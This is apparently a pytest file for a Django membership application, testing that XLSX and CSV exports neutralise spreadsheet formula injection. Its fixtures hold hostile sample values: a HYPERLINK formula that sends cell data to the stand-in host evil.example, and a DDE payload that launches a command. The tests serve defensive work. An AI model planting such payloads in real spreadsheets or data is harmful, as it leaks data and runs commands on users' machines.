"""Issue 13, defect 5: no spreadsheet or CSV the product writes holds a live formula.

A member named ``=HYPERLINK(…)`` and a commune named ``=1+1`` (both accepted by the import as
text, as docs/interchange.md says) come out protected in the XLSX list export, the report
XLSX, the statistics XLSX and the ``export`` bundle CSV; the exported bundle reads back to the
same names.
"""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from django.test import Client
from openpyxl import load_workbook

from dangvien.core.spreadsheets import safe_cell, unprotect
from dangvien.interchange.exporter import export_bundle
from dangvien.interchange.importer import import_bundle
from dangvien.interchange.tests import corpus as c
from dangvien.members.models import Member
from dangvien.organizations.models import Organization
from dangvien.users.services import system_actor

pytestmark = pytest.mark.django_db

EVIL_MEMBER = '=HYPERLINK("http://evil.example/?d="&B2,"Nguyen Van A")'
EVIL_COMMUNE = "=1+1"
ON = date(2024, 6, 30)


@pytest.fixture
def evil(tmp_path):
    files = c.base()
    files["members.csv"][1][1] = EVIL_MEMBER
    files["organizations.csv"][2][1] = EVIL_COMMUNE
    files["members.csv"][2][1] = "@SUM(1+1)*cmd|' /C calc'!A0"
    import_bundle(c.write_bundle(tmp_path / "in", files), actor=system_actor())


def _workbook_cells(data: bytes) -> list:
    workbook = load_workbook(io.BytesIO(data))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_no_formula(cells: list, *expected: str) -> None:
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    for value in expected:
        assert any(value in text for text in texts), value
        assert not any(text.startswith(value) for text in texts), value
        assert any(text.startswith("'" + value) for text in texts), value


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-5", "-5"),
        ("+84", "+84"),
        ("Nguyễn Văn An", "Nguyễn Văn An"),
        ("", ""),
    ],
)
def test_safe_cell_protects_formulas_and_unprotect_undoes_it(text, written):
    assert safe_cell(text) == written
    assert unprotect(written) == text
    assert safe_cell(5) == 5 and safe_cell(None) is None


def test_the_member_list_xlsx_holds_the_names_as_text(evil, superuser):
    client = Client()
    client.force_login(superuser)
    response = client.get("/org/X/members/", {"as_of": ON.isoformat(), "export": "xlsx"})
    assert response.status_code == 200
    cells = _workbook_cells(b"".join(response.streaming_content))
    _assert_no_formula(cells, EVIL_MEMBER, "@SUM(1+1)")


def test_the_report_xlsx_holds_the_names_as_text(evil):
    from dangvien.reports.documents import heading_for, render
    from dangvien.reports.selectors import parent_name, report_figures

    province = Organization.objects.get(code="P")
    figures = report_figures(province, ON)
    heading = heading_for(figures, parent=parent_name(province, ON), number="1")
    # the commune is a row of the table by organization
    _assert_no_formula(_workbook_cells(render("xlsx", figures, heading)), EVIL_COMMUNE)


def test_the_statistics_xlsx_holds_the_name_as_text(evil):
    from dangvien.statistics.documents import statistics_xlsx
    from dangvien.statistics.selectors import statistics_for

    stats = statistics_for(Organization.objects.get(code="X"), ON)
    cells = _workbook_cells(statistics_xlsx(stats))
    _assert_no_formula(cells, EVIL_COMMUNE)


def test_the_export_csv_protects_formulas_and_reads_back_exactly(evil, tmp_path):
    export_bundle(tmp_path / "out")
    with (tmp_path / "out" / "members.csv").open(encoding="utf-8", newline="") as handle:
        names = [row["full_name"] for row in csv.DictReader(handle)]
    assert "'" + EVIL_MEMBER in names
    assert not any(name.startswith(("=", "+", "-", "@")) for name in names)
    with (tmp_path / "out" / "organizations.csv").open(encoding="utf-8", newline="") as handle:
        assert "'" + EVIL_COMMUNE in [row["name"] for row in csv.DictReader(handle)]
    # the exported bundle is the database: importing it again changes nothing
    again = import_bundle(tmp_path / "out", actor=system_actor()).as_dict()
    assert all(v == 0 for k, v in again.items() if not k.endswith("_unchanged")), again
    assert Member.objects.get(member_key="M1").full_name == EVIL_MEMBER


def test_a_protected_cell_imports_as_the_text_it_protects(tmp_path):
    files = c.base()
    files["members.csv"][1][1] = "'" + EVIL_MEMBER
    files["members.csv"][2][1] = "'Nguyễn Văn Bình"  # no formula: the apostrophe stays
    import_bundle(c.write_bundle(tmp_path, files), actor=system_actor())
    assert Member.objects.get(member_key="M1").full_name == EVIL_MEMBER
    assert Member.objects.get(member_key="M2").full_name == "'Nguyễn Văn Bình"
